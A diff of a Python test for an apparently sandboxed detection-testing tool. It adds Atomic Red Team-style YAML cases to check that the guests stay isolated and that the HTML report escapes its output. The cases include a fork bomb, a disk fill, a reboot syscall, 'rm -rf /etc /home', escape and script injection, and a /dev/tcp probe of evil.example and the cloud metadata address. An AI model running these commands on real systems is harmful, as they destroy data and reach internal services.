@@ -11,9 +11,51 @@ from tests.unit.lanner.program import fresh as lanner
 
 pytestmark = pytest.mark.live
 
-TESTS = """
+TESTS = r"""
 attack_technique: T1053.003
 atomic_tests:
+- name: It never ends
+  auto_generated_guid: hanging
+  supported_platforms: [linux]
+  executor: {name: sh, command: "sleep 1000"}
+- name: Processes without end
+  auto_generated_guid: bomb
+  supported_platforms: [linux]
+  executor: {name: bash, command: ":(){ :|:& };:"}
+- name: A disk is filled
+  auto_generated_guid: full
+  supported_platforms: [linux]
+  executor: {name: sh, command: "head -c 1200000000 /dev/zero > /tmp/zeros"}
+- name: The machine is restarted
+  auto_generated_guid: restart
+  supported_platforms: [linux]
+  executor:
+    name: sh
+    elevation_required: true
+    command: "perl -e 'syscall(169, 0xfee1dead, 672274793, 0x01234567, 0) == 0 or die'"
+- name: "<script>alert(1)</script> \e[31m red"
+  auto_generated_guid: escapes
+  supported_platforms: [linux]
+  executor: {name: bash, command: "printf '\\033]0;owned\\a<b>'; exit 4"}
+- name: A server is asked
+  auto_generated_guid: server
+  supported_platforms: [linux]
+  dependencies:
+  - description: something is compiled beside the tests
+    prereq_command: test -e PathToAtomicsFolder/T1053.003/made
+    get_prereq_command: touch PathToAtomicsFolder/T1053.003/made
+  executor:
+    name: bash
+    command: |
+      for each in evil.example/80 169.254.169.254/80; do
+        exec 3<> /dev/tcp/$each
+        printf 'GET / HTTP/1.0\r\n\r\n' >&3
+        grep -q sinkhole <&3 || exit
+      done
+- name: Nobody knows this shell
+  auto_generated_guid: cobol
+  supported_platforms: [linux]
+  executor: {name: cobol, command: "x"}
 - name: A job is written
   auto_generated_guid: job
   supported_platforms: [linux]
@@ -37,12 +79,13 @@ atomic_tests:
 - name: Output has no end
   auto_generated_guid: endless
   supported_platforms: [linux]
-  executor: {name: sh, command: "yes | head -c 300000000; echo; echo the end; exit 3"}
+  executor: {name: sh, command: "yes | head -c 30000000; echo; echo the end; exit 3"}
 - name: All is killed
   auto_generated_guid: killer
   supported_platforms: [linux]
   executor: {name: sh, elevation_required: true, command: "kill -9 -1; rm -rf /etc /home; cat /etc/cron.d/job"}
 """
+
 
 OTHER_RULE = """
 - rule: Change a job
@@ -54,7 +97,7 @@ OTHER_RULE = """
 
 
 def test_each_test_has_a_guest_of_its_own_and_its_own_alerts(tmp_path: Path) -> None:
-    """No test sees what another did, none reaches the machine, and nothing of the guests is left."""
+    """No test sees what another did, none reaches the machine or ends the run, and nothing of the guests is left."""
     try:
         image = tmp_path / "image"
         image.mkdir()
@@ -64,17 +107,18 @@ def test_each_test_has_a_guest_of_its_own_and_its_own_alerts(tmp_path: Path) -> 
     folder = tmp_path / "atomics" / "T1053.003"
     folder.mkdir(parents=True)
     (folder / "T1053.003.yaml").write_text(TESTS)
-    layer = tmp_path / "layer.json"
+    layer, page = tmp_path / "layer.json", tmp_path / "page.html"
 
     recording = tmp_path / "recording"
-
     done = lanner(
-        *("prove", folder.parent, "--image", image, "--format", "json", "--navigator", layer),
-        *("--recording", recording),
+        *("prove", folder.parent, "--image", image, "--guests", "4", "--seconds", "8", "--format", "json"),
+        *("--navigator", layer, "--html", page, "--recording", recording),
         timeout=120,
     )
 
-    assert done.returncode == 0, done.stderr
+    assert done.returncode == 1, done.stderr
+    assert "T1053.003.yaml:" in done.stderr
+    assert "unknown executor 'cobol'" in done.stderr
     results = {each["guid"]: each for each in json.loads(done.stdout)}
     assert results["job"]["result"] == "technique"
     assert "Write scheduled job" in {alert["rule"] for alert in results["job"]["alerts"]}
@@ -87,6 +131,17 @@ def test_each_test_has_a_guest_of_its_own_and_its_own_alerts(tmp_path: Path) -> 
     assert "exit code 1" in results["clock"]["reason"]
     assert results["endless"]["reason"].endswith("the end")
     assert results["killer"]["result"] != "not run"
+    assert results["hanging"]["reason"] == "stopped after 8 s"
+    assert results["bomb"]["result"] != "not run"
+    assert "No space left" in results["full"]["reason"]
+    assert "exit code 1" in results["restart"]["reason"]
+    assert results["server"]["reason"] == ""
+    assert not (folder / "made").exists()
+    assert results["T1053.003#7"]["reason"] == "unknown executor 'cobol'"
+    html = page.read_text()
+    assert "<script" not in html
+    assert "\x1b" not in html
+    assert "exit code 4: \\x1b]0;owned\\x07&lt;b&gt;" in html
     assert json.loads(layer.read_text())["techniques"][0]["techniqueID"] == "T1053.003"
     assert_same_by_replay(results, folder.parent, recording)
     cgroups = Path("/sys/fs/cgroup")
@@ -96,7 +151,7 @@ def test_each_test_has_a_guest_of_its_own_and_its_own_alerts(tmp_path: Path) -> 
 def assert_same_by_replay(results: dict[str, dict[str, Any]], folder: Path, recording: Path) -> None:
     """Check that the same rules raise the same alerts on the recording, and that other rules raise theirs."""
     done = lanner("prove", folder, "--replay", recording, "--format", "json")
-    assert done.returncode == 0, done.stderr
+    assert done.returncode == 1, done.stderr
 
     def found(result: dict[str, Any]) -> tuple[str, list[tuple[str, int]]]:
         return result["reason"], [(alert["rule"], alert["time"]) for alert in result["alerts"]]
